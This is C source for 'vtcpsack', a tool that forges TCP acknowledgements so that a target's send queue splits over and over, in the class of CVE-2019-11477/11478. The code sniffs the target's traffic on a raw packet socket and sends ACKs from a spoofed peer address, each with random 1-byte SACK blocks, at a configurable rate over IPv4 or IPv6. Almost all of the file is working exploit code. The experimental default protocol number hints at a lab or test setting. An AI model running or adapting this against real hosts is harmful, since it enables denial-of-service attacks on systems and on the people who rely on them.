// SPDX-License-Identifier: GPL-2.0
/*
 * vtcpsack: a receiver that acknowledges so as to cut the sender's queue
 * into pieces (the class of CVE-2019-11477/11478).
 *
 *   vtcpsack -s PEER -d TARGET -S PEER_PORT -D TARGET_PORT -i DEV
 *            [-t SECONDS] [-r ACKS_PER_S] [-a STEP] [-b BLOCKS] [-P PROTO]
 *
 * It watches the target's data on DEV (an AF_PACKET socket) and, RATE
 * times a second, sends an ACK from PEER (IP_HDRINCL, TTL 33, so that a
 * tc filter can drop the real peer's own ACKs and keep these; over IPv6,
 * if PEER and TARGET are IPv6 addresses, hop limit 33): the
 * cumulative ACK moves STEP bytes on, never past what the target sent,
 * and BLOCKS fresh 1-byte SACK blocks land at random above it, each of
 * which costs the target two splits of its queue. The window offered is
 * the largest the field holds. Timestamps are not sent: turn them off.
 * At the end it prints "acks N" and "acked BYTES".
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define ACK_FLAG	0x10
#define SYN_FLAG	0x02
#define RST_FLAG	0x04
#define FIN_FLAG	0x01
#define OUR_TTL		33
#define MAX_BLOCKS	4
#define TICK		0.005	/* seconds */

struct attack {
	int family;			/* AF_INET or AF_INET6 */
	unsigned int alen;		/* an address's bytes: 4 or 16 */
	uint8_t peer[16], target[16];	/* network order */
	uint16_t peer_port, target_port;
	int proto;
	/* What the target's segments told. */
	bool known;
	uint32_t una;			/* our cumulative ACK */
	uint32_t hi;			/* past the highest byte it sent */
	uint32_t its_ack;		/* its ACK field: our sequence number */
	uint64_t acks, acked;
};

static uint64_t rng = 88172645463325252ULL;

static uint32_t below(uint32_t n)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return n ? (uint32_t)(rng % n) : 0;
}

static void die(const char *what)
{
	perror(what);
	exit(1);
}

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | p[1] << 16 | p[2] << 8 | p[3];
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static uint16_t get16(const uint8_t *p)
{
	return p[0] << 8 | p[1];
}

/* The target's segment in @frame: what it sent, and what it acknowledged. */
static void learn(struct attack *a, const uint8_t *frame, ssize_t n)
{
	const uint8_t *ip = frame + ETH_HLEN, *th;
	unsigned int ihl, doff, len;
	uint32_t seq, end;

	if (a->family == AF_INET6) {
		/* Next header ours: no extension headers in between. */
		if (n < ETH_HLEN + 40 + 20 || get16(frame + 12) != ETH_P_IPV6 ||
		    ip[6] != a->proto || memcmp(ip + 8, a->target, 16) ||
		    memcmp(ip + 24, a->peer, 16))
			return;
		ihl = 40;
		len = get16(ip + 4);
	} else {
		const struct iphdr *ip4 = (const void *)ip;

		if (n < ETH_HLEN + 40 || ip4->protocol != a->proto ||
		    memcmp(&ip4->saddr, a->target, 4) ||
		    memcmp(&ip4->daddr, a->peer, 4))
			return;
		ihl = ip4->ihl * 4;
		if (ihl < 20)
			return;
		len = ntohs(ip4->tot_len);
		len = len > ihl ? len - ihl : 0;
	}
	th = ip + ihl;
	if (n < ETH_HLEN + ihl + 20 ||
	    get16(th) != a->target_port || get16(th + 2) != a->peer_port ||
	    (th[13] & (SYN_FLAG | RST_FLAG)))
		return;
	doff = (th[12] >> 4) * 4;
	seq = get32(th + 4);
	end = seq + (len > doff ? len - doff : 0) + !!(th[13] & FIN_FLAG);
	if (!a->known) {
		a->una = seq;
		a->hi = seq;
		a->known = true;
	}
	if ((int32_t)(end - a->hi) > 0)
		a->hi = end;
	if (th[13] & ACK_FLAG)
		a->its_ack = get32(th + 8);
}

static void drain(int pfd, struct attack *a)
{
	uint8_t frame[256];
	ssize_t n;

	while ((n = recv(pfd, frame, sizeof(frame),
			 MSG_DONTWAIT | MSG_TRUNC)) > 0)
		learn(a, frame, n);
}

static int open_watch(const char *dev, int family)
{
	uint16_t type = htons(family == AF_INET6 ? ETH_P_IPV6 : ETH_P_IP);
	struct sockaddr_ll sll = { .sll_family = AF_PACKET,
				   .sll_protocol = type };
	int fd = socket(AF_PACKET, SOCK_RAW, type);

	if (fd < 0)
		die("socket(AF_PACKET)");
	sll.sll_ifindex = if_nametoindex(dev);
	if (!sll.sll_ifindex)
		die(dev);
	if (bind(fd, (struct sockaddr *)&sll, sizeof(sll)))
		die("bind(AF_PACKET)");
	return fd;
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t sum)
{
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		sum += get16(p + i);
	if (n & 1)
		sum += p[n - 1] << 8;
	return sum;
}

/* Over the pseudo-header of the family: IPv4's 12 bytes, IPv6's 40. */
static uint16_t checksum(const struct attack *a, const uint8_t *seg,
			 size_t len)
{
	uint8_t ph[40] = { 0 };
	unsigned int n = 2 * a->alen;
	uint32_t sum;

	memcpy(ph, a->peer, a->alen);
	memcpy(ph + a->alen, a->target, a->alen);
	if (a->family == AF_INET6) {
		put32(ph + n, len);
		ph[n + 7] = a->proto;
		n += 8;
	} else {
		ph[n + 1] = a->proto;
		put16(ph + n + 2, len);
		n += 4;
	}
	sum = sum16(seg, len, sum16(ph, n, 0));
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static int cmp_u32(const void *x, const void *y)
{
	uint32_t p = *(const uint32_t *)x, q = *(const uint32_t *)y;

	return p < q ? -1 : p > q;
}

/* BLOCKS distinct 1-byte blocks above the ACK, as offsets from it. */
static unsigned int pick_blocks(const struct attack *a, unsigned int want,
				uint32_t *off)
{
	uint32_t room = a->hi - a->una;
	unsigned int i, n = 0;

	if (room < 2)
		return 0;
	for (i = 0; i < want; i++)
		off[n++] = 1 + below(room - 1);
	qsort(off, n, sizeof(*off), cmp_u32);
	for (i = 1; i < n; i++)
		if (off[i] == off[i - 1])
			off[i] = 0;
	return n;
}

static void send_ack(int rfd, struct attack *a, unsigned int blocks)
{
	uint8_t pkt[40 + 20 + 4 + 8 * MAX_BLOCKS] = { 0 };
	struct sockaddr_in6 to6 = { .sin6_family = AF_INET6 };
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned int ihl = a->family == AF_INET6 ? 40 : 20;
	uint8_t *th = pkt + ihl, *o = th + 20;
	uint32_t off[MAX_BLOCKS];
	unsigned int i, n, len;

	n = pick_blocks(a, blocks, off);
	o[0] = 1;
	o[1] = 1;
	o[2] = 5;
	len = 4;
	for (i = 0; i < n; i++) {
		if (!off[i])
			continue;
		put32(o + len, a->una + off[i]);
		put32(o + len + 4, a->una + off[i] + 1);
		len += 8;
	}
	o[3] = len - 2;
	if (len == 4)
		len = 0;		/* no block fits: a plain ACK */
	put16(th, a->peer_port);
	put16(th + 2, a->target_port);
	put32(th + 4, a->its_ack);
	put32(th + 8, a->una);
	th[12] = (5 + len / 4) << 4;
	th[13] = ACK_FLAG;
	put16(th + 14, 0xffff);
	put16(th + 16, checksum(a, th, 20 + len));
	if (a->family == AF_INET6) {
		/* IPPROTO_RAW: the header as given (IPV6_HDRINCL). */
		struct ip6_hdr *ip6 = (struct ip6_hdr *)pkt;

		ip6->ip6_flow = htonl(6 << 28);
		ip6->ip6_plen = htons(20 + len);
		ip6->ip6_nxt = a->proto;
		ip6->ip6_hlim = OUR_TTL;
		memcpy(&ip6->ip6_src, a->peer, 16);
		memcpy(&ip6->ip6_dst, a->target, 16);
		memcpy(&to6.sin6_addr, a->target, 16);
		if (sendto(rfd, pkt, ihl + 20 + len, 0,
			   (struct sockaddr *)&to6, sizeof(to6)) < 0 &&
		    errno != ENOBUFS)
			die("sendto");
	} else {
		struct iphdr *ip = (struct iphdr *)pkt;

		ip->version = 4;
		ip->ihl = 5;
		ip->ttl = OUR_TTL;
		ip->protocol = a->proto;
		ip->tot_len = htons(40 + len);
		memcpy(&ip->saddr, a->peer, 4);
		memcpy(&ip->daddr, a->target, 4);
		memcpy(&to.sin_addr, a->target, 4);
		if (sendto(rfd, pkt, 40 + len, 0, (struct sockaddr *)&to,
			   sizeof(to)) < 0 && errno != ENOBUFS)
			die("sendto");
	}
	a->acks++;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void sleep_until(double t)
{
	struct timespec ts = { .tv_sec = (time_t)t,
			       .tv_nsec = (long)((t - (time_t)t) * 1e9) };

	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL) ==
	       EINTR)
		;
}

/* @s into @addr; its family (AF_INET or AF_INET6), or 0 if neither. */
static int parse_addr(const char *s, uint8_t *addr)
{
	if (inet_pton(AF_INET, s, addr) == 1)
		return AF_INET;
	if (inet_pton(AF_INET6, s, addr) == 1)
		return AF_INET6;
	return 0;
}

static void usage(void)
{
	fprintf(stderr, "usage: vtcpsack -s PEER -d TARGET -S PEER_PORT "
		"-D TARGET_PORT -i DEV [-t SECONDS] [-r ACKS_PER_S] "
		"[-a STEP] [-b BLOCKS] [-P PROTO]\n");
	exit(2);
}

int main(int argc, char **argv)
{
	struct attack a = { .proto = 253 };
	unsigned int rate = 2000, step = 300, blocks = 4;
	double secs = 10, start, next, due = 0;
	const char *dev = NULL;
	int c, one = 1, pfd, rfd, peer_family = 0, target_family = 0;
	uint32_t before;

	while ((c = getopt(argc, argv, "s:d:S:D:i:t:r:a:b:P:")) != -1) {
		switch (c) {
		case 's': peer_family = parse_addr(optarg, a.peer); break;
		case 'd': target_family = parse_addr(optarg, a.target); break;
		case 'S': a.peer_port = atoi(optarg); break;
		case 'D': a.target_port = atoi(optarg); break;
		case 'i': dev = optarg; break;
		case 't': secs = atof(optarg); break;
		case 'r': rate = atoi(optarg); break;
		case 'a': step = atoi(optarg); break;
		case 'b': blocks = atoi(optarg); break;
		case 'P': a.proto = atoi(optarg); break;
		default: usage();
		}
	}
	if (!dev || !peer_family || peer_family != target_family ||
	    !a.peer_port || !a.target_port || !rate || blocks > MAX_BLOCKS)
		usage();
	a.family = peer_family;
	a.alen = a.family == AF_INET6 ? 16 : 4;
	pfd = open_watch(dev, a.family);
	rfd = socket(a.family, SOCK_RAW, IPPROTO_RAW);
	if (rfd < 0 || (a.family == AF_INET &&
			setsockopt(rfd, IPPROTO_IP, IP_HDRINCL, &one,
				   sizeof(one))))
		die("raw socket");
	/* Ticks of TICK seconds, each with its share of the ACKs. */
	start = next = now_s();
	while (now_s() - start < secs) {
		drain(pfd, &a);
		/* None saved up while the target's data is not yet seen. */
		due = a.known ? due + rate * TICK : 0;
		for (; a.known && due >= 1; due -= 1) {
			before = a.una;
			a.una += (a.hi - a.una < step) ? a.hi - a.una : step;
			a.acked += a.una - before;
			send_ack(rfd, &a, blocks);
		}
		next += TICK;
		sleep_until(next);
	}
	printf("acks %llu\nacked %llu\n", (unsigned long long)a.acks,
	       (unsigned long long)a.acked);
	return 0;
}
